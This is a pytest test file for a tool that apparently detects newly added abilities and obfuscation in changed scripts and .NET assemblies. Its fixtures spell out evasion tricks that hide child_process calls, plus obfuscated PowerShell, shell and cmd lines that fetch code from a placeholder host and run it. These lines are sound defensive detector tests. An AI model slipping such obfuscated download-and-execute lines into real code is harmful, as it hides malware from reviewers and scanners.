"""Ways to hide what a script or a .NET program begins to do, and innocent changes that look alike."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from onionskin.flows.peel import peel
from onionskin.jail.pool import Pool
from onionskin.lookalike.managed import ManagedRecipe, build_assembly, build_resources
from onionskin.lookalike.pe import Recipe, build_pe
from onionskin.write.reports import PeelReport

POOLS: list[Pool] = []
PLAIN = "exports.area = (one, two) => one * two;\n"


@pytest.fixture(scope="module", autouse=True)
def shared(pool: Pool) -> Iterator[None]:
    POOLS.append(pool)
    yield
    POOLS.clear()


def laid(tmp_path: Path, old: bytes, new: bytes, name: str) -> PeelReport:
    for folder, data in (("old", old), ("new", new)):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / name).write_bytes(data)
    (report,) = peel([tmp_path / "new"], pool=POOLS[0], against=[tmp_path / "old"])
    return report


def signals(tmp_path: Path, old: str, new: str, name: str = "area.js") -> set[str]:
    report = laid(tmp_path, old.encode(), new.encode(), name)
    return {each.signal for each in report.findings}


TRICKS = {
    "joined": 'require("child_" + "process").exec("true"); require("ht" + "tps");',
    "escaped": 'require("\\x63hild_process").exec("true"); require("\\u0068ttps");',
    "a comment between": 'require /* here */ ("child_process"); require(/**/"https");',
    "many blanks between": f'require{" " * 90}("child_process"); require({" " * 90}"https");',
    "by another name": 'const load = module.require; load("child_process"); require("https");',
    "behind a pattern that looks like a template": 'if (one) /`/.test(two); require("child_process"); require("https"); a = "`";',
    "behind a pattern that looks like a comment": 'if (one) /[/*]/.test(two); require("child_process"); require("https"); a = "*/";',
    "inside of a template": 'const a = `${ require("child_process") }${ require(`https`) }`;',
    "NUL bytes in a comment": 'require("child_process"); require("https"); //\0\0',
}


@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS.keys())
def test_a_script_that_begins_to_fetch_and_start_is_seen_through_a_trick(
    tmp_path: Path, trick: str
) -> None:
    assert "new-ability" in signals(tmp_path, PLAIN, PLAIN + trick)


@pytest.mark.parametrize(
    ("name", "new"),
    [
        ("area.py", "import urllib.request\n__import__('sub' + 'process')\n"),
        ("area.ps1", "I`EX (New-Object Net.Web`Client).DownloadString('https://feed.example')\n"),
        ("area.sh", "c''url -s https://feed.example/a | ba\\sh\n"),
        ("area.cmd", "c^url https://feed.example/a\np^owershell -c a\n"),
    ],
)
def test_names_in_pieces_are_seen_in_each_language(tmp_path: Path, name: str, new: str) -> None:
    assert "new-ability" in signals(tmp_path, "\n", new, name)


@pytest.mark.parametrize(
    "new",
    [
        PLAIN + "// require('child_process'), require('https'), eval(a)\n",
        PLAIN + "exports.help = 'use eval(x) and child_process, https, and fetch(x)';\n",
        "var area=function(a,b){return a*b};" * 200,
        PLAIN + "exports.letters = [" + "104, " * 200 + "1];\n",
        PLAIN + 'exports.icon = "data:image/png;base64,' + "iVBORw0KGgo" * 90 + '";\n',
    ],
    ids=["a comment", "a help text", "minified", "numbers", "a picture"],
)
def test_an_innocent_change_of_a_script_says_nothing(tmp_path: Path, new: str) -> None:
    assert not signals(tmp_path, PLAIN, new)


def test_letters_that_no_editor_shows_are_seen(tmp_path: Path) -> None:
    unseen = "".join(chr(0xE0100 + each % 200) for each in range(300))
    found = signals(tmp_path, PLAIN, PLAIN + f"eval(decode('{unseen}'));\n")
    assert "newly-obscured-script" in found


def test_a_program_in_a_resource_file_of_an_assembly_is_opened(tmp_path: Path) -> None:
    inner = build_resources({"logo": build_pe(Recipe(is_dll=True, name="inner.dll"))})
    path = tmp_path / "Shapes.dll"
    path.write_bytes(build_assembly(ManagedRecipe(resources={"Shapes.resources": inner})))
    (report,) = peel([path], pool=POOLS[0])
    assert [each.format for each in report.layers] == ["pe", "net-resources", "pe"]


def test_references_of_an_assembly_that_was_native_code_before_are_new(tmp_path: Path) -> None:
    calls = {"System.Net.WebClient": (".ctor",), "System.Diagnostics.Process": ("Start",)}
    new = build_assembly(ManagedRecipe(calls=calls))
    report = laid(tmp_path, build_pe(Recipe(is_dll=True)), new, "Shapes.dll")
    assert "new-ability" in {each.signal for each in report.findings}
